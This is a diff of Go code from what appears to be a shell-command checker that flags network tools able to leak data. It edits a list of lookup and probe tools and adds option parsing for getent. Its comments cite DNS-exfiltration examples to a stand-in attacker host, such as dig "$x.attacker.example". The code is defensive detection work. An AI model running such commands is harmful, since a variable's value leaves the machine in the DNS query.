@@ -637,7 +637,7 @@ func cmakeModel() *Spec {
 // their words name and send nothing else of their own: lookups, probes,
 // tracers and fetchers of a single file.
 var hostLookupNames = []string{"delv", "resolvectl", "ping", "ping6",
-	"fping", "arping", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "whois", "ssh-keyscan", "ftpget"}
+	"fping", "arping", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "whois", "ssh-keyscan"}
 
 const whySendsInName = "puts a variable's value or a command's output in its words, which name the host it looks up or reaches: " +
 	"the name alone carries it out, in the DNS query or the packets (dig \"$x.attacker.example\")"
@@ -695,7 +695,8 @@ func nslookupJudge(r *Result, words []string) {
 // (getent ahosts "$x.attacker.example"); the others read this machine's
 // tables.
 func getentModel() *Spec {
-	return &Spec{Name: "getent", Syntax: GNU, Open: true, Judge: func(r *Result, words []string) {
+	return &Spec{Name: "getent", Syntax: GNU, Open: true, Options: list(val("s", RoleData, "service"),
+		flag("i", "no-idn"), flag("", "help"), flag("V", "version")), Judge: func(r *Result, words []string) {
 		for _, it := range r.Items {
 			if it.Kind == KindOperand {
 				if hostsDatabases[it.Text] || it.Computed {
